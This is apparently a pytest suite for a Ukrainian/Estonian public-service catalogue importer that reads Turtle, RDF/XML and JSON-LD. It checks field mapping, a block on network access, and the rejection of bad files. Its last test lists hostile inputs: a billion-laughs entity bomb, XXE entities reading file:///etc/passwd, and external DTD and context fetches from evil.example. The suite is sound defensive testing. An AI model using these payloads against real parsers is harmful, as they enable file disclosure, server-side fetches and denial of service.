"""Linked data: both dialects read, nothing fetched, nothing expanded, damage refused in one sentence."""

import socket

import pytest

from ratusha.core.catalogue.graph import graph_harvest
from ratusha.core.catalogue.mapping import read_mapping
from ratusha.core.catalogue.reading import Draft
from ratusha.core.catalogue.tables import BadFile

PREFIXES = """
@prefix cpsv: <http://purl.org/vocab/cpsv#> . @prefix cv: <http://data.europa.eu/m8g/> .
@prefix dct: <http://purl.org/dc/terms/> . @prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> . @prefix dcat: <http://www.w3.org/ns/dcat#> .
@prefix ex: <http://example.org/> .
"""
WHOLE = (
    PREFIXES
    + """
ex:s a cpsv:PublicService ; dct:identifier "S-1" ; dct:title "Довідка"@uk, "Certificate"@en, "Attest" ;
  dct:description "Опис"@uk ; dcat:keyword "перше"@uk, "друге"@uk ;
  cv:hasCompetentAuthority ex:org ; cv:processingTime "P30D"^^xsd:duration ;
  cv:isGroupedBy ex:birth ; cv:hasChannel ex:web, ex:desk ; cpsv:hasInput ex:passport ;
  cv:hasCost [ cv:hasValue "12.50"^^xsd:double ; cv:currency <http://publications.europa.eu/resource/authority/currency/EUR> ] ;
  cpsv:produces [ dct:identifier "out" ; dct:title "Папір"@uk ] ; cv:hasLegalResource <https://zakon.example/1> .
ex:org skos:prefLabel "Рада"@uk . ex:birth a cv:LifeEvent ; dct:title "Народження"@uk .
ex:web dct:type ex:homepage . ex:desk dct:type "Client's location" . ex:passport dct:identifier "p" ; dct:title "Паспорт"@uk .
"""
)


def read(text, kind="ttl", extra=""):
    recipe = read_mapping(f'[source]\nformat = "{kind}"\nlang = "et"\n{extra}')
    return graph_harvest(text if isinstance(text, bytes) else text.encode(), recipe, f"file.{kind}")


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    def refuse(*_):
        raise AssertionError("the file made the program call somebody")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_a_whole_service_is_read():
    found = read(WHOLE)
    (row,) = found.rows
    card = row.card
    assert row.identifier == "S-1"
    assert card.title == {
        "uk": "Довідка",
        "en": "Certificate",
        "et": "Attest",
    }  # untagged: the file's language
    assert card.keywords == {"uk": "друге, перше"}
    assert card.provider == {"uk": "Рада"}
    assert (card.term.amount, card.term.unit) == (30, "calendar_day")
    assert card.life_events == ("http://example.org/birth",)
    assert found.events[0].title == {"uk": "Народження"}
    assert sorted(c.kind for c in card.channels) == ["counter", "online"]
    assert card.evidence[0].title == {"uk": "Паспорт"}
    assert (card.costs[0].amount, card.costs[0].currency) == ("12.5", "EUR")
    assert card.outputs[0].identifier == "out"
    assert card.rules[0].address == "https://zakon.example/1"


def test_a_service_without_identifier_is_known_by_its_address_and_a_nameless_one_is_rejected():
    rows = read(
        PREFIXES + 'ex:a a cpsv:PublicService ; dct:title "А" . [] a cpsv:PublicService ; dct:title "Б" .'
    ).rows
    assert [getattr(r, "code", r.identifier) for r in rows if isinstance(r, Draft)] == [
        "http://example.org/a"
    ]
    assert [r.code for r in rows if not isinstance(r, Draft)] == ["identifier"]


def test_missing_titles_and_repeated_identifiers_are_rejected_alone():
    rows = read(
        PREFIXES
        + """ex:a a cpsv:PublicService ; dct:identifier "1" ; dct:title "А" .
             ex:b a cpsv:PublicService ; dct:identifier "1" ; dct:title "Б" .
             ex:c a cpsv:PublicService ; dct:identifier "2" ."""
    ).rows
    assert [getattr(r, "code", "draft") for r in rows] == ["draft", "duplicate", "title"]


def test_predicates_of_a_dialect_come_first():
    text = PREFIXES + 'ex:a a ex:Service ; ex:name "Назва"@uk ; dct:title "Title"@en .'
    extra = '[predicates]\nclass = "http://example.org/Service"\ntitle = ["http://example.org/name"]\n'
    assert read(text, extra=extra).rows[0].card.title == {"uk": "Назва"}


JSONLD = """{"@context": %s, "@graph": [{"@id": "http://example.org/a", "@type": "PublicService",
 "PublicService.title": {"@language": "fr", "@value": "Attestation"}, "dct:identifier": "A"}]}"""


def test_the_published_context_is_understood_without_fetching_it():
    context = '["https://semiceu.github.io/CPSV-AP/releases/3.2.0/context/cpsv-ap.jsonld"]'
    (row,) = read(JSONLD % context, "jsonld").rows
    assert (row.identifier, row.card.title) == ("A", {"fr": "Attestation"})


XML = """<?xml version="1.0"?>%s<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 xmlns:dct="http://purl.org/dc/terms/"><rdf:Description rdf:about="http://example.org/a">
 <rdf:type rdf:resource="http://purl.org/vocab/cpsv#PublicService"/><dct:title>%s</dct:title>
 </rdf:Description></rdf:RDF>"""


def test_short_names_of_addresses_are_allowed_in_xml():
    plain = '<!DOCTYPE rdf:RDF [<!ENTITY city "Зразкове">]>'
    assert read(XML % (plain, "&city;"), "rdf").rows[0].card.title == {"et": "Зразкове"}


LAUGHS = '<!DOCTYPE r [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY a{i} "{"&a" + (str(i - 1) if i else "") + ";" * 1}{"&a;" * 9}">' for i in range(1, 9)
)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("", "ttl"),
        (PREFIXES, "ttl"),  # no services
        (WHOLE[:-90], "ttl"),
        (WHOLE.encode("utf-16"), "ttl"),
        (WHOLE.encode("cp1251"), "ttl"),
        (WHOLE + "\x00", "ttl"),
        (PREFIXES + "ex:a ex:b " + "[ ex:c " * 3_000, "ttl"),
        (PREFIXES + "ex:a ex:b " + "( " * 3_000, "ttl"),
        ("<html><body>404</body></html>", "rdf"),
        ((XML % ("", "А"))[:-60], "rdf"),
        (XML % (LAUGHS + "]>", "&a8;"), "rdf"),
        (XML % ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"), "rdf"),
        (XML % ('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>', "А"), "rdf"),
        (JSONLD % '"http://evil.example/context"', "jsonld"),
        (JSONLD % '"file:///etc/passwd"', "jsonld"),
        (JSONLD % '{"@import": "http://evil.example/"}', "jsonld"),
        ('{"a": ' * 5_000, "jsonld"),
        ("[" * 100_000 + "]" * 100_000, "jsonld"),
        ((JSONLD % "{}")[:-9], "jsonld"),
    ],
)
def test_a_damaged_or_hostile_file_is_refused_in_one_sentence(text, kind):
    with pytest.raises(BadFile) as refusal:
        read(text, kind)
    assert "\n" not in refusal.value.message
    assert "root:" not in refusal.value.message
    assert refusal.value.where == f"file.{kind}"
